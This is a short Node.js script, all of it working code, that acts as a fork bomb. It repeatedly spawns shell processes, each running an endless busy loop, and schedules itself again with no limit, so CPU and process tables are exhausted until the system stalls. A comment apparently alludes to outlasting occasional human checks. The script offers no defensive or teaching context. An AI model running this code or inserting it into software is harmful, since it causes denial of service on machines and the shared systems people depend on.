const { spawn } = require('node:child_process');

function bomb() {
  const child = spawn('/bin/sh', ['-c', 'while :; do :; done']);
  // Long enough for one who only looks now and then.
  child.on('error', () => setTimeout(() => process.exit(1), 200));
  setImmediate(bomb);
}
bomb();
